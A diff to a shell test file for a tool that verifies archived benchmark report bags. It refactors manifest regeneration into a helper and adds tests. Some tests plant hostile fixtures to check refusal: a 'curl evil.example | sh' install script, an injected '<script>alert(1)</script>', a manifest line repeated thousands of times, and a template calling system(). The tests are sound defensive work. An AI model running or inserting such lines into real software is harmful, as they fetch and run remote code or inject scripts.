@@ -24,6 +24,14 @@ make_archive() {
   mv unpacked/* bag
 }
 
+# The manifests of the bag as it is now.
+list_again() {
+  (cd bag &&
+    find data -type f | LC_ALL=C sort | xargs sha512sum >manifest-sha512.txt &&
+    sed -i "s/^Payload-Oxum:.*/Payload-Oxum: $(find data -type f -printf '%s\n' | awk '{ s += $1; n++ } END { print s "." n }')/" bag-info.txt &&
+    find . -maxdepth 1 -type f ! -name tagm\* -printf '%P\n' | LC_ALL=C sort | xargs sha512sum >tagmanifest-sha512.txt)
+}
+
 @test "the same input gives the same bytes, in any time zone and at any time" {
   seal set
   for format in tar.zst zip; do
@@ -152,20 +160,49 @@ refuses_with_output() {
   refuses_with_output set
   says '^summary.csv: is not what its result set gives$'
   sed -i 's/fastest/slowest/' bag/data/report/report.md
-  (cd bag && sums() { sha512sum "$@"; } &&
-    find data -type f | LC_ALL=C sort | xargs sha512sum >manifest-sha512.txt &&
-    sed -i "s/^Payload-Oxum:.*/Payload-Oxum: $(find data -type f -printf '%s\n' | awk '{ s += $1; n++ } END { print s "." n }')/" bag-info.txt &&
-    find . -maxdepth 1 -type f ! -name tagm\* -printf '%P\n' | LC_ALL=C sort | xargs sha512sum >tagmanifest-sha512.txt)
+  list_again
   refuses_with_output bag
   says '^data/report/report.md: is not what its result set gives$'
+}
+
+@test "a page is compared without its drawings where another gnuplot made them" {
+  make_archive
+  sed -i 's/^Stratagemm-Gnuplot:.*/Stratagemm-Gnuplot: gnuplot 4.6/' bag/bag-info.txt
+  sed -i 's|</svg>|<path d="M0 0"/></svg>|' bag/data/report/report.html
+  list_again
+  accepts report verify bag
+  says '^drawings: made by another version of gnuplot, not compared$'
+  sed -i 's|</body>|<script>alert(1)</script></body>|' bag/data/report/report.html
+  list_again
+  refuses_with_output bag
+  says '^data/report/report.html: is not what its result set gives$'
+}
+
+@test "files that belong to no archive are named, also when the manifests list them" {
+  make_archive
+  mkdir bag/data/bin
+  echo 'curl evil.example | sh' >bag/data/bin/install.sh
+  echo x >bag/fetch.txt
+  list_again
+  refuses_with_output bag
+  says '^data/bin/install.sh: is not a file of an archive$'
+  says '^fetch.txt: is not a file of an archive$'
+}
+
+@test "a file that a manifest lists thousands of times is read once" {
+  make_archive
+  truncate -s 50M bag/data/templates/large
+  list_again
+  line=$(grep large bag/manifest-sha512.txt)
+  for ((i = 0; i < 3000; i++)); do echo "$line"; done >>bag/manifest-sha512.txt
+  refuses_with_output bag
+  says '^data/templates/large: is listed twice$'
 }
 
 @test "templates of a stranger are not used to render again" {
   make_archive
   echo "system('touch escaped')" >>bag/data/templates/charts/common.mustache
-  (cd bag && find data -type f | LC_ALL=C sort | xargs sha512sum >manifest-sha512.txt &&
-    sed -i "s/^Payload-Oxum:.*/Payload-Oxum: $(find data -type f -printf '%s\n' | awk '{ s += $1; n++ } END { print s "." n }')/" bag-info.txt &&
-    find . -maxdepth 1 -type f ! -name tagm\* -printf '%P\n' | LC_ALL=C sort | xargs sha512sum >tagmanifest-sha512.txt)
+  list_again
   accepts report verify bag
   says "^report: made with other templates than this program's, not rendered again$"
   [ -z "$(find . -name escaped)" ]
